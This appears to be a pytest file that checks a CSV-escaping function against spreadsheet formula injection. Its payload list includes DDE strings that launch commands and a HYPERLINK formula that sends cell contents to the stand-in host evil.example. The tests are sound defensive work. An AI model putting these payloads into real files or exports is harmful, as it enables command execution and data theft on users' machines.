"""No cell of a CSV becomes a formula (threat T24, OWASP ASVS 1.2.10)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cds_service.csv_safe import csv_safe, write_csv

CALLS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"x")',
    "=IMPORTXML(A1;A2)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
)
HIDDEN = (
    *("{}", " {}", "\t{}", "\r{}", "\n{}", "\u00a0{}", "\ufeff{}", "\x00{}"),
    *('"{}', "'{}", "x;{}", "x\n{}", "\u200b{}"),
)
OTHERS = ("＝1+1", "＋1", "－1+1", "＠A1", "|calc", "%0A=1+1")
PAYLOADS = [*(form.format(call) for call in CALLS for form in HIDDEN), *OTHERS]
_LIVE = re.compile(r"[=+\-@＝＋－＠]")


def live(cell: str) -> bool:
    """Whether a spreadsheet could take the cell, or a part of it after a separator, for a formula."""
    seen = re.sub(r"[\x00-\x08\x0b-\x1f\x7f\u200b\ufeff]", "", cell)
    return bool(_LIVE.match(seen.lstrip(' \t\r\n\u00a0"')))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_stays_live(payload: str) -> None:
    out = io.StringIO()
    write_csv(out, ("heading",), [(payload,)])
    _, (cell,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert cell.startswith("'")
    assert not live(cell)


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 50


@pytest.mark.parametrize(
    "plain",
    ["", "astro.components", "2026-W48", "77387-26", "2015-01-01", "-1", "-0.25", "+3", "1e-5", 12, -4, 0.5],
)
def test_honest_cells_stay_as_they_are(plain: object) -> None:
    assert csv_safe(plain) == str(plain)


def test_nothing_is_an_empty_cell() -> None:
    assert csv_safe(None) == ""


@given(st.text())
def test_a_cell_is_never_live_and_keeps_its_text(text: str) -> None:
    safe = csv_safe(text)
    assert not live(safe) or re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", safe)
    shown = re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", text)
    assert safe in (shown, f"'{shown}")
